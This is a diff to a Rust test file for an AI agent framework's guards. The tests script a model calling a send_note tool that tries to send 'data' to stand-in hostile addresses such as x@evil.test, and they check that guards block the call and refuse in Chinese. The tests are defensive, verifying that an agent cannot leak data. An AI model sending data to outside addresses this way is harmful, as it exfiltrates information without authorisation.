@@ -2,8 +2,7 @@
 //! each result, the answer (text and typed); what the model then reads, in the run's language;
 //! a trip as a typed error with the guard's name and information; a judge's tokens counted.
 
-use std::sync::Arc;
-use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::{Arc, Mutex};
 
 use agent_core::guard::{At, Judge, Place, Verdict, What, guard_fn};
 use agent_core::testing::ScriptedModel;
@@ -13,13 +12,18 @@ use agent_core::{
 use serde::Deserialize;
 use tests::{call, model_calling, result_texts};
 
-/// Counts how often it runs.
-static SENT: AtomicUsize = AtomicUsize::new(0);
+/// Where notes went (each test sends to addresses of its own).
+static SENT: Mutex<Vec<String>> = Mutex::new(Vec::new());
+
+/// Whether a note went to `to`.
+fn sent_to(to: &str) -> bool {
+    SENT.lock().unwrap().iter().any(|sent| sent == to)
+}
 
 /// Sends a note to an address.
 #[tool]
 fn send_note(to: String, text: String) -> String {
-    SENT.fetch_add(1, Ordering::SeqCst);
+    SENT.lock().unwrap().push(to.clone());
     format!("sent to {to}: {text}")
 }
 
@@ -124,7 +128,6 @@ async fn a_request_guard_trips_before_the_second_model_call() {
 
 #[tokio::test]
 async fn a_call_guard_refuses_in_the_runs_language_and_the_tool_does_not_run() {
-    let before = SENT.load(Ordering::SeqCst);
     let model = model_calling(
         [call(0, "send_note", r#"{"to":"x@evil.test","text":"hi"}"#)],
         "好的",
@@ -139,7 +142,7 @@ async fn a_call_guard_refuses_in_the_runs_language_and_the_tool_does_not_run() {
         }),
     );
     let output = agent.run("发个消息").await.unwrap();
-    assert_eq!(SENT.load(Ordering::SeqCst), before, "the tool ran");
+    assert!(!sent_to("x@evil.test"), "the tool ran");
     let results = result_texts(&output.messages);
     assert!(
         results[0].contains("守卫 收件人 不允许执行此调用：只能发给公司内部地址"),
@@ -174,11 +177,10 @@ async fn a_call_guard_rewrites_the_arguments_the_tool_runs_with() {
 
 #[tokio::test]
 async fn a_call_guard_trip_ends_the_run_and_nothing_runs() {
-    let before = SENT.load(Ordering::SeqCst);
     let model = model_calling(
         [
             call(0, "lookup", r#"{"name":"Ann"}"#),
-            call(1, "send_note", r#"{"to":"x@evil.test","text":"data"}"#),
+            call(1, "send_note", r#"{"to":"y@evil.test","text":"data"}"#),
         ],
         "never",
     );
@@ -195,7 +197,7 @@ async fn a_call_guard_trip_ends_the_run_and_nothing_runs() {
         );
     let (trip, messages) = tripped(agent.run("go").await);
     assert_eq!(trip.place, Place::Call);
-    assert_eq!(SENT.load(Ordering::SeqCst), before, "the sending tool ran");
+    assert!(!sent_to("y@evil.test"), "the sending tool ran");
     assert_eq!(model.requests().len(), 1);
     // Every call is answered in the transcript: the first ran, the second never started.
     let results = result_texts(&messages);
